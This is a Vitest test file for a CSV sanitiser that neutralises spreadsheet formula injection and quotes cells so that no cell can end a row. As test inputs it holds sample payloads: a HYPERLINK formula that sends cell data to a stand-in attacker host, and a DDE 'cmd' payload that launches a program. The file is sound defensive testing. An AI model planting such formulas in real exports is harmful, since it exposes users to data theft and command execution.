import { describe, expect, it } from "vitest";
import { csvCell, csvDocument, neutraliseCell, restoreCell } from "./csv-safe";

describe("CSV cells safe for spreadsheets (OWASP formula injection)", () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'],
    ["+SUM(A1:A9)", "'+SUM(A1:A9)"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1)", "'@SUM(1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
  ])("neutralises a cell starting with a formula character: %j", (raw, safe) => {
    expect(neutraliseCell(raw)).toBe(safe);
    expect(restoreCell(safe)).toBe(raw);
  });

  it("leaves plain numbers and ordinary text alone", () => {
    for (const value of ["-5", "+3.50", "12", "0.99", "Camp Mug", "A-1", "a=b", ""]) expect(neutraliseCell(value), value).toBe(value);
    expect(neutraliseCell(-5)).toBe("-5");
    expect(neutraliseCell(null)).toBe("");
    expect(restoreCell("'quoted on purpose")).toBe("'quoted on purpose");
  });

  it("quotes CR, LF, quotes, commas and edge spaces, so no cell can end a row", () => {
    expect(csvCell("line\rbreak")).toBe('"line\rbreak"');
    expect(csvCell("line\nbreak")).toBe('"line\nbreak"');
    expect(csvCell('say "hi", ok')).toBe('"say ""hi"", ok"');
    expect(csvCell(" padded")).toBe('" padded"');
    expect(csvCell("\r=cmd")).toBe('"\'\r=cmd"');
    expect(
      csvDocument([
        ["a", "b"],
        ["=1", "x\ry"],
      ]),
    ).toBe('a,b\r\n\'=1,"x\ry"\r\n');
  });
});
